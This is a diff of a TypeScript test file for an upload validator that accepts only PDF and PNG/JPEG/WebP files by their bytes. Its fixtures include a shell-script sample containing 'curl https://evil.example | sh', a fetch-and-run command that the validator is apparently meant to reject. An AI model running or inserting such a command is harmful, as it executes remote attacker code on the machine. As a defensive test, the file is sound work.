@@ -21,7 +21,7 @@ const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000
 const script = Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n");
 const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(60)]);
 
-const file = (bytes: Uint8Array, name: string, type = "application/pdf") => new File([bytes], name, { type });
+const file = (bytes: Uint8Array, name: string, type = "application/pdf") => new File([new Uint8Array(bytes)], name, { type });
 
 describe("acceptUpload: only PDF and PNG/JPEG/WebP images, by content", () => {
   it("accepts each type by its bytes and names it by what it is", async () => {
